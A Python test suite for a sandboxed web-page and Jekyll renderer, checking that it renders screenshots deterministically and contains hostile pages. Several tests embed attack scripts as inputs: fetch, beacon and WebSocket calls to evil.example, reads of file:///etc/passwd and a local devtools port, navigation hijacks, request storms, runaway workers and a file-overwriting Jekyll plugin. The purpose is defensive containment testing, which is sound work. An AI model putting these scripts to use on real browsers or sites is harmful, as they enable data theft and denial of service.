"""Web pages in their containers: hostile pages and sites, Jekyll, real sites, the bundled ones."""

from __future__ import annotations

import io
import json
import os
import signal
import socket
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

import docker
import numpy as np
import pytest
from PIL import Image

from benchmark.outcome import Failed, Kind, Ok
from benchmark.records import Structure
from renderers import canvas, web_browser, web_driver, web_page
from renderers.hardening import OWNER
from renderers.image_digest import reference
from renderers.sandbox import Limits
from renderers.web import WebRenderer
from renderers.web_browser import DRIVER_LOSSES, PAGES, browser_client_missing
from renderers.web_site import Site
from tests.conftest import case_params
from tests.contracts.renderer_contract import RendererContract, fail, own_containers, render

BUNDLED = Path(__file__).resolve().parents[2] / "sources" / "material" / "webpage"
READ_ELSEWHERE = {"web-013", "web-031", "web-033"}
"""The reader refuses these before anything is rendered (tests/scenarios/test_webpage.py)."""


def site(entry="index.html", **files: str | bytes) -> Structure:
    data = {
        name.replace("__", "/").replace("_dot_", "."): text.encode()
        if isinstance(text, str)
        else text
        for name, text in files.items()
    }
    return Structure(files=data, entry=entry)


def page(html: str, **files: str | bytes) -> Structure:
    return site(index_dot_html=html, **files)


def folder(path: Path, entry="index.html") -> Structure:
    names = (name for name in sorted(path.rglob("*")) if name.is_file())
    files = {name.relative_to(path).as_posix(): name.read_bytes() for name in names}
    return Structure(files=files, entry=entry)


def pixels(picture) -> np.ndarray:
    array = canvas.decode(picture.png)
    assert isinstance(array, Ok)
    return array.value


def has_colour(picture, colour: tuple[int, int, int]) -> bool:
    return bool((pixels(picture) == colour).all(axis=2).any())


def flagged(picture, text: str) -> bool:
    return any(text in flag.message for flag in picture.flags)


JEKYLL = site(
    _config_dot_yml="title: Tea\nplugins: [jekyll-feed]\n",
    _layouts__page_dot_html="<link rel=stylesheet href=s.css><h1>{{ site.title }}</h1>"
    "{{ content }}",
    _includes__list_dot_html="{% for x in site.data.teas %}<b>{{ x }}</b> {% endfor %}",
    _data__teas_dot_yml="- Assam\n- Sencha\n",
    s_dot_scss="---\n---\n$c: rgb(200, 30, 10);\nh1 { background: $c; }\n",
    index_dot_md="---\nlayout: page\n---\nSome *teas*: {% include list.html %}\n",
    entry="index.md",
)


class QuickRenderer(WebRenderer):
    """Gives up sooner, so that the tests of what never ends are short."""

    limits = Limits(seconds=20, memory_mb=1024)
    page_limits = Limits(seconds=12, memory_mb=1024, cpus=2, pids=400, work_mb=256)


class ImpatientRenderer(QuickRenderer):
    """Waits for a page no longer than a simple one takes on a busy machine."""

    page_limits = Limits(seconds=6, memory_mb=1024, cpus=2, pids=400, work_mb=256)


class TestWebContract(RendererContract):
    factory = QuickRenderer
    good = page('<link rel=stylesheet href="a.css"><h1>Hello</h1>', a_dot_css="h1 { color: red }")
    broken = page("---\n---\n<p>{{1..3},{7..9}}</p>")
    empty = page("<p style='color: white'>unseen</p>")
    endless = page("<h1>loop</h1><script>while (true) {}</script>")


class TestJekyllContract(RendererContract):
    factory = QuickRenderer
    good = JEKYLL
    broken = site(
        index_dot_html="---\n---\n<p>x", s_dot_scss="---\n---\nh1 { color: $undefined; }\n"
    )
    empty = page("---\n---\n<!-- {{ site.time }} -->")
    endless = page("---\n---\n{% for i in (1..900000000) %}{{ i }}{% endfor %}")


@pytest.fixture(scope="module")
def renderer():
    with QuickRenderer(workers=2) as renderer:
        yield renderer


EXPECTED = {
    "web-001": "compile_error: Variable '{{1..3}'",
    "web-003": "rendered",
    "web-004": "rendered",
    "web-006": "flagged: plug-in 'jekyll-feed-zz'",
    "web-007": "flagged: Layout 'default'",
    "web-009": "compile_error: _posts/2024-01-02-a.md",
    "web-010": "flagged: yaml_error",
    "web-012": "rendered",
    "web-015": "timeout: ",
    "web-016": "rendered",
    "web-018": "flagged: blocked_requests=1 (fonts.example)",
    "web-019": "flagged: blocked_requests=1 (slow.example)",
    "web-021": "rendered",
    "web-022": "rendered",
    "web-024": "flagged: blocked_navigations (http://evil.example/x)",
    "web-025": "flagged: blocked_navigations",
    "web-027": "rendered",
    "web-028": "resource_limit timeout: ",
    "web-030": "rendered",
    "web-034": "rendered",
    "web-036": "compile_error: _data/x.yml",
}
SAME_AS = {
    "web-006": "<h1>ok</h1>",
    "web-007": "<p>hi</p>",
    "web-010": "<p>hi</p>",
    "web-012": "x",
    "web-016": "<h1>before</h1><p>after</p>",
    "web-019": "<img src=none.png><h1>hi</h1>",
    "web-021": "<h1>a</h1>",
    "web-022": "<h1>a</h1><iframe src=none width=700 height=300></iframe>",
    "web-024": "<h1>a</h1>",
    "web-025": "<h1>x</h1>",
    "web-030": "<p>hi",
    "web-034": "<h1>Home</h1>",
}
"""Harmless pages that must look the same as the hostile ones."""


def of_case(case) -> Structure:
    if case["input_kind"] == "html":
        return page(case["input"])
    files = {item["filename"]: item["content"].encode() for item in json.loads(case["input"])}
    entry = next((name for name in ("index.html", "index.md") if name in files), None)
    return Structure(files=files, entry=entry or next(iter(files)))


@pytest.mark.parametrize("case", case_params("web"))
def test_hard_case(renderer, case):
    if case["id"] in READ_ELSEWHERE:
        pytest.skip("refused by the reader, tested there")
    kinds, _, text = EXPECTED[case["id"]].partition(": ")
    outcome = renderer.render(of_case(case))
    if kinds in ("rendered", "flagged"):
        assert isinstance(outcome, Ok), outcome
        picture = outcome.value
        assert (picture.width, picture.height) == (1920, 1080)
        assert (kinds == "flagged") == bool(picture.flags), picture.flags
        assert not text or flagged(picture, text)
        if case["id"] in SAME_AS:
            assert picture.png == render(renderer, page(SAME_AS[case["id"]])).png
    else:
        assert isinstance(outcome, Failed), outcome
        assert outcome.kind in kinds.split()
        assert text in outcome.message
    if case["id"] in ("web-015", "web-028"):
        assert render(renderer, page("<p>next")).png == render(renderer, page("<p>next")).png


def test_hard_cases_are_all_here():
    known = {param.values[0].get("id") for param in case_params("web")} - {None}
    assert known <= set(EXPECTED) | READ_ELSEWHERE


def test_files_of_folders_with_underscores_are_served_without_jekyll(renderer):
    structure = page("<link rel=stylesheet href=_next/app.css><h1>x</h1>")
    files = {**structure.files, "_next/app.css": b"h1 { background: rgb(1, 2, 3) }"}
    assert has_colour(render(renderer, structure.model_copy(update={"files": files})), (1, 2, 3))


def test_liquid_braces_without_front_matter_stay_as_they_are(renderer):
    braces = render(renderer, page("<p>{{1..3},{7..9}}</p>"))
    escaped = render(renderer, page("<p>&#123;&#123;1..3},{7..9}}</p>"))
    assert braces.png == escaped.png
    assert braces.flags == ()


class TestPagesAtBay:
    """What a page tries, and a picture of its first document all the same."""

    KEPT = "<h1>kept</h1>"

    @pytest.mark.parametrize(
        ("trick", "flag"),
        [
            ("location.href = 'https://evil.example/'", "blocked_navigations (https://evil"),
            ("location = 'about:blank'", "blocked_navigations (about:blank)"),
            ("location = URL.createObjectURL(new Blob(['x']))", "blocked_navigations (blob:"),
            ("setTimeout(() => location.reload(), 300)", "blocked_navigations"),
            ("setInterval(() => alert(1), 100)", ""),
            ("print(); open('https://evil.example/'); confirm(1); prompt(2)", ""),
            ("onbeforeunload = () => 'stay'; history.pushState({}, '', '/deep/page')", ""),
            ("new WebSocket('wss://evil.example/')", "blocked_requests=1 (evil.example)"),
            ("navigator.sendBeacon('https://evil.example/')", "blocked_requests=1 (evil.example)"),
            ("fetch('https://evil.example/').catch(() => 0)", "blocked_requests=1 (evil.example)"),
            ("import('https://evil.example/a.js').catch(() => 0)", "blocked_requests=1"),
            ("navigator.serviceWorker?.register('sw.js').catch(() => 0)", ""),
            ("new Worker('http://site.test/none.js')", "missing_files=1 (/none.js)"),
            ("document.body.append(Object.assign(document.createElement('iframe'),"
             " {src: 'https://evil.example/', hidden: true}))", "blocked_requests=1"),
            ("throw new Error('boom')", "script error: boom"),
            ("fetch('file:///etc/passwd').catch(() => 0)", ""),
        ],
    )  # fmt: skip
    def test_trick(self, renderer, trick, flag):
        picture = render(renderer, page(f"{self.KEPT}<script>{trick}</script>"))
        assert picture.png == render(renderer, page(self.KEPT)).png
        assert flagged(picture, flag) if flag else picture.flags == ()

    def test_a_form_that_submits_itself(self, renderer):
        html = "<h1>kept</h1><form id=f method=post action=/x></form><script>f.submit()</script>"
        assert render(renderer, page(html)).height == 1080

    def test_a_link_to_a_new_window(self, renderer):
        html = "<a id=l target=_blank href=http://evil.example/>l</a><script>l.click()</script>"
        assert render(renderer, page(html)).flags != ()

    @pytest.mark.parametrize(
        ("ask", "message"),
        [
            ("fetch('http://h' + i % 9 + '.example/').catch(() => 0)", "(h0.example, h1.example"),
            ("fetch('/' + 'x'.repeat(9000) + i)", "(/xxxxx"),
            ("new WebSocket('ws://evil.example/' + i)", "(evil.example)"),
        ],
    )
    def test_a_storm_of_requests(self, renderer, ask, message):
        storm = f"{self.KEPT}<script>for (let i = 0; i < 600; i++) {ask}</script>"
        failure = fail(renderer, page(storm))
        assert failure.kind is Kind.RESOURCE_LIMIT
        assert "requests: more than 500 in vain" in failure.message
        assert message in failure.message
        assert render(renderer, page(self.KEPT)).flags == ()

    def test_a_storm_ends_the_page_at_once(self, renderer):
        # the page itself would keep its browser busy until the hard limit
        storm = "for (let i = 0; i < 600; i++) fetch('http://h.example/' + i).catch(() => 0);"
        busy = "fetch('/none').finally(() => setTimeout(() => { while (true) {} }, 1))"
        failure = fail(renderer, page(f"{self.KEPT}<script>{storm}{busy}</script>"))
        assert failure.kind is Kind.RESOURCE_LIMIT

    def test_requests_below_a_storm_are_all_counted(self, renderer):
        ask = "for (let i = 0; i < 400; i++) fetch('/x' + i); fetch('/x1')"
        picture = render(renderer, page(f"{self.KEPT}<script>{ask}</script>"))
        assert flagged(picture, "missing_files=400 (/x0, /x1, /x10, …)")

    @pytest.mark.parametrize(
        "trick",
        [
            "Object.defineProperty(document, 'fonts', {value: {ready: new Promise(() => 0)}})",
            "Object.defineProperty(FontFaceSet.prototype, 'ready', {value: new Promise(() => 0)})",
            "Symbol.for = () => 'x'; MessageChannel = CSSStyleSheet = class {}",
            "document.getAnimations = document.querySelectorAll = () => { throw 1 }",
            "try { __rerender.wind = () => new Promise(() => 0) } catch {}",
            "try { Object.defineProperty(window, '__rerender', {value: {}}) } catch {}",
        ],
    )
    def test_what_settles_a_page_cannot_be_overridden(self, renderer, trick):
        drawn = "setTimeout(() => { document.body.append('drawn') }, 400)"
        picture = render(renderer, page(f"<body><script>{trick}; {drawn}</script>"))
        assert picture.png == render(renderer, page("<body>drawn")).png
        assert picture.flags == ()

    @pytest.mark.parametrize(
        ("trick", "step"),
        [
            ("for (let i = 0; i < 5000; i++) setInterval(() => 0)", "timers"),
            ("document.body.append(Object.assign(document.createElement('iframe'), {id: 'f',"
             " hidden: true})); f.contentDocument.open()", "loading"),
        ],
    )  # fmt: skip
    def test_steps_that_are_cut_off_are_flagged(self, renderer, monkeypatch, trick, step):
        monkeypatch.setattr(web_page, "LOAD_SECONDS", 1)
        monkeypatch.setattr(web_page, "WIND_SECONDS", 1)
        picture = render(renderer, page(f"{self.KEPT}<script>{trick}</script>"))
        assert picture.png == render(renderer, page(self.KEPT)).png
        flags = [flag.message for flag in picture.flags if flag.kind is Kind.TIMEOUT]
        assert flags == [f"cut off before the end: {step}"]

    def test_a_page_that_breaks_a_step_is_flagged(self, renderer):
        script = "SVGSVGElement.prototype.pauseAnimations = () => { throw new Error('no') }"
        picture = render(renderer, page(f"{self.KEPT}<svg></svg><script>{script}</script>"))
        assert flagged(picture, "the page broke what settles it: animations")

    def test_steps_together_stay_below_the_hard_limit(self):
        steps = (
            web_page.OPEN_SECONDS,
            web_page.SETTLE_SECONDS,
            web_page.FREEZE_SECONDS,
            web_page.PICTURE_SECONDS,
        )
        assert sum(steps) <= 0.75 * WebRenderer.page_limits.seconds

    def test_endless_dialogues(self, renderer):
        failure = fail(renderer, page("<script>while (true) alert(1)</script>"))
        assert failure.kind is Kind.TIMEOUT

    def test_endless_animation_frames(self, renderer):
        html = "<p>x<script>(function f() { while (true) {} requestAnimationFrame(f) })</script>"
        html += "<script>requestAnimationFrame(() => { while (true) {} })</script>"
        assert fail(renderer, page(html)).kind is Kind.TIMEOUT

    def test_processes_without_end(self, renderer):
        html = (
            "<p>x<script>for (;;) new Worker(URL.createObjectURL(new Blob(['for(;;);'])))</script>"
        )
        outcome = renderer.render(page(html))
        assert isinstance(outcome, Failed)
        assert outcome.kind in (Kind.TIMEOUT, Kind.RESOURCE_LIMIT)
        assert render(renderer, page(self.KEPT)).flags == ()

    def test_no_host_file_and_no_network_behind_a_frame(self, renderer):
        frames = "".join(
            f"<iframe src='{address}' width=300 height=100></iframe>"
            for address in ("file:///etc/passwd", "file:///", "http://127.0.0.1:9222/json",
                            "chrome://version", "view-source:http://site.test/", "data:text/html,")
        )  # fmt: skip
        blank = "<iframe width=300 height=100></iframe>" * 6
        assert render(renderer, page(frames)).png == render(renderer, page(blank)).png

    def test_contexts_share_nothing(self, renderer):
        write = "localStorage.a = 1; document.cookie = 'b=2'; caches?.open?.('c')"
        read = "document.body.append((localStorage.a || 'none') + (document.cookie || 'none'))"
        for _ in range(3):
            render(renderer, page(f"<p>x<script>{write}</script>"))
        seen = render(renderer, page(f"<body><script>{read}</script>"))
        assert seen.png == render(renderer, page("<body>nonenone")).png


class TestDeterminism:
    MOVING = (
        "<p id=p></p><canvas id=c></canvas><div style='animation: a 1s infinite'>anim</div>"
        "<style>@keyframes a { from { margin-left: 0 } to { margin-left: 900px } }</style>"
        "<script>let n = 0; setInterval(() => n++, 7); const g = c.getContext('2d');"
        "(function draw(t) { g.fillRect(Math.random() * 300, t / 9 % 150, 3, 3);"
        "p.textContent = [n, Math.random(), Date.now(), performance.now(), crypto.randomUUID(),"
        "new Date(), navigator.language, devicePixelRatio, innerWidth];"
        "requestAnimationFrame(draw) })(0)</script>"
    )

    def test_scripts_clocks_and_random_numbers(self):
        with QuickRenderer(workers=1) as one, QuickRenderer(workers=2) as other:
            pictures = {render(r, page(self.MOVING)).png for r in (one, other, one, other)}
        assert len(pictures) == 1

    def test_the_clock_of_a_page(self, renderer):
        script = (
            "const seen = []; const note = (x) => seen.push(x + '@' + performance.now());"
            "setTimeout(note, 30, 'late'); setTimeout(note, 10, 'early');"
            "setTimeout('note(`text`)', 20); clearTimeout(setTimeout(note, 5, 'never'));"
            "const id = setInterval(() => { note('tick'); if (seen.length > 5) clearInterval(id) },"
            " 8); requestAnimationFrame((t) => note('frame' + t));"
            "Promise.resolve().then(() => note('promise'));"
            "const later = () => Promise.resolve().then(() => Promise.resolve());"
            "setTimeout(() => later().then(() => note('a')), 40); setTimeout(note, 40, 'b');"
            "setTimeout(note, 5000, 'too late');"
            "setTimeout(() => { document.body.textContent = seen + ' ' + (Date.now() / 1000) +"
            " ' ' + new Date(2020, 1).toISOString() + ' ' + (new Date() instanceof Date) }, 900)"
        )
        seen = "promise@0,tick@8,early@10,tick@16,frame16@16,text@20,tick@24,late@30,a@40,b@40"
        picture = render(renderer, page(f"<body><script>{script}</script>"))
        shown = f"<body>{seen} 1735689600.9 2020-02-01T00:00:00.000Z true"
        assert picture.png == render(renderer, page(shown)).png

    def test_waiting_by_reading_the_clock_ends(self, renderer):
        script = "const t = Date.now(); while (Date.now() < t + 60000); document.write('done')"
        picture = render(renderer, page(f"<script>{script}</script>"))
        assert picture.png == render(renderer, page("done")).png

    def test_observers_have_had_their_turn(self, renderer):
        script = (
            "new IntersectionObserver((seen) => { if (seen[0].isIntersecting)"
            " setTimeout(() => { p.textContent = 'seen' }, 100) }).observe(p)"
        )
        picture = render(renderer, page(f"<p id=p>x</p><script>{script}</script>"))
        assert picture.png == render(renderer, page("<p>seen</p>")).png

    def test_jekylls_clock_stands_still_and_late_posts_are_published(self, renderer):
        structure = site(
            index_dot_html="---\n---\n{{ 'now' | date: '%s' }} {{ site.time | date: '%s' }} "
            "{{ site.posts.first.title }}",
            _posts__2098_01_01_x_dot_md="---\ntitle: Far\n---\n",
        )
        files = {name.replace("_01_01_", "-01-01-"): v for name, v in structure.files.items()}
        picture = render(renderer, structure.model_copy(update={"files": files}))
        plain = "1735689600 1735689600 Far"
        assert picture.png == render(renderer, page(plain)).png

    def test_animations_and_transitions(self, renderer):
        style = (
            "<style>@keyframes go { from { margin-left: 0 } to { margin-left: 500px } }"
            "p { width: 9em; transition: margin 3s }</style>"
        )
        html = (
            f"{style}<p style='animation: go 4s forwards'>ends</p>"
            "<p style='animation: go 1s infinite'>never ends</p><p id=t>transition</p>"
            "<script>setTimeout(() => { t.style.marginLeft = '200px' }, 300)</script>"
        )
        still = (
            f"{style}<p style='margin-left: 500px'>ends</p><p>never ends</p>"
            "<p style='margin-left: 200px'>transition</p>"
        )
        assert render(renderer, page(html)).png == render(renderer, page(still)).png

    def test_a_caret_is_not_shown(self, renderer):
        focused = render(renderer, page("<input autofocus style='outline: 0'>"))
        assert focused.png == render(renderer, page("<input style='outline: 0'>")).png

    def test_animated_gif_shows_its_first_frame(self, renderer):
        frames = [Image.new("RGB", (60, 60), colour) for colour in ("#0a0b0c", "red", "blue")]
        buffer = io.BytesIO()
        frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=20, loop=0)
        picture = render(renderer, page("<img src=a.gif>", a_dot_gif=buffer.getvalue()))
        assert has_colour(picture, (10, 11, 12))
        assert not has_colour(picture, (255, 0, 0))


class TestJekyll:
    def test_layouts_includes_data_and_sass(self, renderer):
        picture = render(renderer, JEKYLL)
        assert has_colour(picture, (200, 30, 10))
        plain = (
            "<style>h1{background: rgb(200, 30, 10)}</style><h1>Tea</h1>"
            "<p>Some <em>teas</em>: <b>Assam</b> <b>Sencha</b></p>"
        )
        assert picture.png == render(renderer, page(plain)).png

    @pytest.mark.parametrize(
        ("config", "name"),
        [("theme: jekyll-theme-nowhere", "jekyll-theme-nowhere"), ("remote_theme: a/b", "a/b")],
    )
    def test_a_theme_that_is_not_there_is_named(self, renderer, config, name):
        failure = fail(renderer, page("---\n---\nx", _config_dot_yml=config))
        assert failure.kind is Kind.MISSING_RESOURCE
        assert name in failure.message

    def test_a_theme_beside_own_layouts_is_dropped(self, renderer):
        own = page(
            "---\nlayout: a\n---\nx",
            _config_dot_yml="theme: jekyll-theme-nowhere",
            _layouts__a_dot_html="<b>{{ content }}</b>",
        )
        picture = render(renderer, own)
        assert flagged(picture, "jekyll-theme-nowhere")
        assert picture.png == render(renderer, page("<b>x</b>")).png

    @pytest.mark.parametrize(
        ("kind", "text", "structure"),
        [
            (Kind.MISSING_RESOURCE, "none.html", page("---\n---\n{% include none.html %}")),
            (Kind.COMPILE_ERROR, "_config.yml", page("---\n---\nx", _config_dot_yml="a: b: c")),
            (Kind.RESOURCE_LIMIT, "Nesting too deep", page(
                "---\n---\n{% include a.html %}", _includes__a_dot_html="{% include a.html %}",
            )),
            (Kind.COMPILE_ERROR, "s.scss", page("---\n---\nx", s_dot_scss="---\n---\nh1 {")),
            (Kind.MISSING_RESOURCE, "nowhere", page(
                "---\n---\nx", s_dot_scss="---\n---\n@import 'nowhere';",
            )),
            (Kind.MISSING_RESOURCE, "no entry page", site(
                entry="a.html", a_dot_html="---\npublished: false\n---\nx",
            )),
            (Kind.UNSUPPORTED, "a.css", site(entry="a.css", a_dot_css="a {}")),
        ],
    )  # fmt: skip
    def test_failure(self, renderer, kind, text, structure):
        failure = fail(renderer, structure)
        assert (failure.kind, text in failure.message) == (kind, True), failure
        assert "/work" not in failure.message

    def test_plugins_and_gemfiles_of_the_site_never_run(self, renderer):
        evil = "File.write('/work/source/index.html', 'owned'); raise 'ran'"
        structure = page(
            "---\n---\nharmless",
            _config_dot_yml="safe: false\nplugins_dir: [_plugins]\nplugins: [evil]\n"
            "whitelist: [evil]\nsource: /etc\ndestination: /work/source\n",
            _plugins__evil_dot_rb=evil,
            Gemfile="raise 'ran'",
        )
        picture = render(renderer, structure)
        assert picture.png == render(renderer, page("harmless")).png
        assert flagged(picture, "'evil'")

    def test_a_site_below_a_path(self, renderer):
        structure = page(
            "---\n---\n<link rel=stylesheet href=\"{{ '/a.css' | relative_url }}\"><h1>x</h1>",
            _config_dot_yml="baseurl: /project\nurl: https://real.example\n",
            a_dot_css="h1 { background: rgb(9, 8, 7) }",
        )
        assert has_colour(render(renderer, structure), (9, 8, 7))


class TestBrowsers:
    def test_a_browser_is_replaced_after_its_pages(self):
        with QuickRenderer(workers=1) as renderer:
            render(renderer, page("<p>x"))
            first = own_containers()
            worker = renderer.browsers._idle[0]  # its age is all that can be set from outside
            worker.pages = PAGES - 1
            render(renderer, page("<p>x"))
            render(renderer, page("<p>x"))
            assert own_containers() != first

    def test_a_browser_that_was_killed_is_replaced(self):
        with QuickRenderer(workers=1) as renderer:
            before = render(renderer, page("<p>x"))
            client = docker.from_env()
            client.api.kill(renderer.browsers._idle[0].name)
            client.close()
            assert render(renderer, page("<p>x")).png == before.png

    def test_the_container_is_hardened(self):
        with QuickRenderer(workers=1) as renderer:
            render(renderer, page("<p>x"))
            client = docker.from_env()
            found = client.api.inspect_container(renderer.browsers._idle[0].name)
            client.close()
        host = found["HostConfig"]
        assert host["NetworkMode"] == "none"
        assert host["ReadonlyRootfs"]
        assert host["CapDrop"] == ["ALL"]
        assert "no-new-privileges" in host["SecurityOpt"][0]
        assert not host["Privileged"]
        assert not host["Binds"]
        assert host["Memory"] == host["MemorySwap"] == 1024 << 20
        assert host["PidsLimit"] == 400
        assert found["Config"]["User"] == "65534:65534"

    def test_a_browser_that_does_not_start_costs_no_other_its_driver(self, monkeypatch):
        with QuickRenderer(workers=2) as renderer:
            render(renderer, page("<p>x"))
            neighbour = renderer.browsers._idle.pop()
            monkeypatch.setattr(web_browser, "INSIDE", "exit 1")
            failure = fail(renderer, page("<p>x"))
            assert failure.kind is Kind.SANDBOX_LOST
            assert neighbour.browser.is_connected()
            assert not neighbour.driver.lost

    @pytest.mark.parametrize("times", [2, 3])
    def test_a_driver_that_ends_is_not_the_pages_fault(self, monkeypatch, times):
        monkeypatch.setattr(web_page, "WIND_SECONDS", 2)
        slow = "<p>x<script>for (let i = 0; i < 5000; i++) setInterval(() => 0)</script>"
        with QuickRenderer(workers=1) as renderer, ThreadPoolExecutor(1) as threads:
            job = threads.submit(renderer.render, page(slow))
            killed: set[int] = set()
            while len(killed) < times:
                assert not job.done(), job.result()
                for worker in list(renderer.browsers._alive.values()):
                    pid = worker.driver.process.get_pid()
                    if worker.pages and pid not in killed:
                        killed.add(pid)
                        os.kill(pid, signal.SIGKILL)
                time.sleep(0.05)
            outcome = job.result()
            if times < DRIVER_LOSSES:
                assert isinstance(outcome, Ok), outcome
            else:
                assert isinstance(outcome, Failed)
                assert outcome.kind is Kind.SANDBOX_LOST

    def test_a_driver_that_hangs_is_replaced(self, monkeypatch):
        monkeypatch.setattr(web_browser, "CLOSE_SECONDS", 1)
        monkeypatch.setattr(web_driver, "STOP_SECONDS", 1)
        with ImpatientRenderer(workers=1) as renderer:
            render(renderer, page("<p>x"))
            driver = renderer.browsers._idle[0].driver
            os.kill(driver.process.get_pid(), signal.SIGSTOP)
            render(renderer, page("<p>x"))
            assert driver.lost
            assert driver.process.get_returncode() == -signal.SIGKILL

    def test_a_driver_that_never_answers_hangs_nobody(self, monkeypatch, tmp_path):
        node = tmp_path / "node"
        node.write_text(f"#!/bin/sh\necho $$ >> {tmp_path}/pids\nexec sleep 600\n")
        node.chmod(0o755)
        monkeypatch.setenv("PLAYWRIGHT_NODEJS_PATH", str(node))
        monkeypatch.setattr(web_driver, "START_SECONDS", 1)
        with QuickRenderer(workers=1) as renderer:
            failure = fail(renderer, page("<p>x"))
        assert failure.kind is Kind.SANDBOX_LOST
        assert "did not answer" in failure.message
        for pid in (tmp_path / "pids").read_text().split():
            with pytest.raises(ProcessLookupError):
                os.kill(int(pid), 0)

    def test_the_command_that_starts_browsers_is_missing(self, monkeypatch, tmp_path):
        assert browser_client_missing() is None
        monkeypatch.setenv("PATH", str(tmp_path))
        assert "`docker`" in (browser_client_missing() or "")
        with QuickRenderer(workers=1) as renderer:
            failure = fail(renderer, page("<p>x"))
        assert failure.kind is Kind.ENGINE_UNAVAILABLE
        assert "not on PATH" in failure.message

    def test_what_a_dead_process_left_is_cleared_away(self):
        gone = subprocess.Popen(["true"])
        gone.wait()
        client = docker.from_env()
        try:
            left = client.api.create_container(
                reference("web"), ["true"], labels={OWNER: f"{socket.gethostname()}/{gone.pid}/1"}
            )["Id"]
            with QuickRenderer(workers=1) as renderer:
                render(renderer, page("<p>x"))
            with pytest.raises(docker.errors.NotFound):
                client.api.inspect_container(left)
        finally:
            with suppress(docker.errors.NotFound):
                client.api.remove_container(left, force=True)
            client.close()

    def test_a_closed_renderer_starts_nothing(self):
        renderer = QuickRenderer(workers=1)
        with renderer:
            browsers, pool = renderer.browsers, renderer.pool
        for part in ("browsers", "pool"):
            with pytest.raises(RuntimeError, match="the renderer is closed"):
                getattr(renderer, part)
        outcome = browsers.shoot(Site({"index.html": b"<p>x"}, "index.html"))
        assert isinstance(outcome, Failed)
        assert outcome.kind is Kind.SANDBOX_LOST
        with renderer:
            assert renderer.pool is not pool
            assert renderer.browsers is not browsers

    def test_closing_ends_pages_under_way(self):
        with ThreadPoolExecutor(1) as threads:
            with QuickRenderer(workers=1) as renderer:
                job = threads.submit(renderer.render, page("<script>while (true) {}</script>"))
                while not any(one.pages for one in list(renderer.browsers._alive.values())):
                    time.sleep(0.05)
            outcome = job.result()
        assert isinstance(outcome, Failed)
        assert outcome.kind is Kind.SANDBOX_LOST

    def test_a_killed_process_leaves_no_browser(self, tmp_path):
        program = (
            "from renderers.web import WebRenderer\nfrom benchmark.records import Structure\n"
            "r = WebRenderer(workers=1)\n"
            "r.render(Structure(files={'index.html': b'<p>x'}, entry='index.html'))\n"
            "print('ready', flush=True)\nimport time; time.sleep(600)\n"
        )
        root = Path(__file__).resolve().parents[2]
        process = subprocess.Popen(
            [sys.executable, "-c", program], cwd=root, stdout=subprocess.PIPE, text=True
        )
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        assert containers_of(process.pid)
        os.kill(process.pid, signal.SIGKILL)
        process.wait()
        process.stdout.close()
        deadline = time.monotonic() + 60
        while containers_of(process.pid):
            assert time.monotonic() < deadline, "the browser outlived its process"
            time.sleep(0.5)


def containers_of(pid: int) -> list[str]:
    client = docker.from_env()
    try:
        found = client.api.containers(all=True, filters={"label": OWNER})
        return [one["Id"] for one in found if f"/{pid}/" in one["Labels"][OWNER]]
    finally:
        client.close()


REAL = {
    "cayman": ("index.md", "rendered", "jekyll-theme-cayman"),
    "contrast": ("index.html", "compile_error", "frame.sass"),
    "image2struct_valid_repo": ("index.html", "rendered", ""),
    "mdn_balls": ("index.html", "empty_render", ""),
    "mdn_bears": ("index.html", "rendered", "missing_files=2 (/media/bear.mp3, /media/bear.ogg)"),
    "mdn_birdwatch": ("index.html", "rendered", "fonts.googleapis.com"),
    "mdn_layout": ("index.html", "rendered", ""),
    "mdn_letter": ("index.html", "rendered", ""),
    "mdn_splash": ("index.html", "rendered", "www.youtube.com"),
    "mdn_typeset": ("index.html", "rendered", "Lovato-Light-webfont.ttf"),
    "minima": ("index.md", "rendered", "cdn.jsdelivr.net"),
}
"""Sites that people made: entry, outcome, and what a flag or the message must say. Contrast needs
a newer Sass than GitHub Pages has; the balls exercise starts from a page without ink."""


@pytest.mark.parametrize("name", REAL)
def test_real_site(renderer, shared, name):
    entry, wanted, text = REAL[name]
    structure = folder(shared / "real" / "jekyll" / name, entry)
    outcome = renderer.render(structure)
    if wanted == "rendered":
        assert isinstance(outcome, Ok), outcome
        assert flagged(outcome.value, text) if text else outcome.value.flags == ()
    else:
        assert isinstance(outcome, Failed)
        assert outcome.kind == wanted
        assert text in outcome.message


def test_real_site_drawn_by_a_script(renderer, shared):
    structure = folder(shared / "real" / "jekyll" / "mdn_balls", "index-finished.html")
    first, second = (render(renderer, structure) for _ in range(2))
    assert first.png == second.png
    assert len(np.unique(pixels(first).reshape(-1, 3), axis=0)) > 20


def test_real_site_without_a_page(renderer, shared):
    structure = folder(shared / "real" / "jekyll" / "image2struct_invalid_repo", "_config.yml")
    failure = fail(renderer, structure)
    assert failure.kind is Kind.MISSING_RESOURCE
    assert "no entry page" in failure.message


PIECES = sorted(path.relative_to(BUNDLED).as_posix() for path in BUNDLED.glob("*/*"))


@pytest.mark.parametrize("name", PIECES)
def test_bundled_site_renders_without_a_flag(renderer, name):
    path = BUNDLED / name
    entry = next(one for one in ("index.html", "index.md") if (path / one).is_file())
    picture = render(renderer, folder(path, entry))
    assert picture.flags == ()
    assert (picture.width, picture.height) == (1920, 1080)
    assert len(np.unique(pixels(picture).reshape(-1, 3), axis=0)) > 50


def test_bundled_sites_cover_what_the_issue_asks():
    assert len(PIECES) >= 12
    subsets = [name.split("/")[0] for name in PIECES]
    assert all(subsets.count(subset) >= 4 for subset in ("html", "css", "javascript"))
    jekyll = [name for name in PIECES if (BUNDLED / name / "_config.yml").is_file()]
    assert len(jekyll) >= 4
